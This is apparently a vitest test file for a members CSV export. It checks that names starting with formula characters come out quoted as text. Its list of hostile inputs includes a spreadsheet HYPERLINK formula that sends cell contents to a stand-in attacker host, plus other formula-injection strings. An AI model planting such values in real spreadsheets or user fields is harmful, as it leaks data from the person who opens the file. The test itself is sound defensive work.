import { expect, test } from 'vitest'
import { MEMBERS_HEAD, membersLines } from '../../widget/toggle/members-csv.ts'

/* The threat: a member's own name runs as a formula on the Owner's machine, or breaks the file (POL-13). */

/** RFC 4180, by the letter: fields in quotes, a quote doubled. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let at = 0
  while (at < text.length) {
    const row: string[] = []
    for (;;) {
      expect(text[at]).toBe('"')
      let field = ''
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (text[at] === '"') at++
        field += text[at]
      }
      row.push(field)
      at += 1
      if (text[at] !== ',') break
      at += 1
    }
    expect(text.slice(at, at + 2)).toBe('\r\n')
    at += 2
    rows.push(row)
  }
  return rows
}

const FORMULAS = [
  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u200b=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
]
const HARMLESS = ['Ann "the" Cat', 'a,b;c\td', 'line\r\nbreak', "O'Neil", 'x=1', '😀 Zoë', '', 'a";=1+1;"']

test('a hostile name is a text in its field, in every form of a formula’s first sign', () => {
  const at = Date.UTC(2026, 0, 2, 3)
  const members = [...FORMULAS, ...HARMLESS].map((name) => ({ name, role: 'member', enrolled: false, lastSeenAt: at }))
  const file = MEMBERS_HEAD + membersLines([...members, { name: null, role: 'owner', enrolled: true, lastSeenAt: at }])
  expect(file.startsWith('\ufeff')).toBe(true)
  const [head, ...rows] = parseCsv(file.slice(1))
  expect(head).toEqual(['Name', 'Role', 'MFA', 'Last seen'])
  expect(rows.map(([name]) => name)).toEqual([...FORMULAS.map((name) => `'${name}`), ...HARMLESS, ''])
  expect(new Set(rows.slice(0, -1).map((row) => row.slice(1).join()))).toEqual(
    new Set(['member,not set up,2026-01-02T03:00:00.000Z']),
  )
  expect(rows.at(-1)).toEqual(['', 'owner', 'set up', '2026-01-02T03:00:00.000Z'])
})
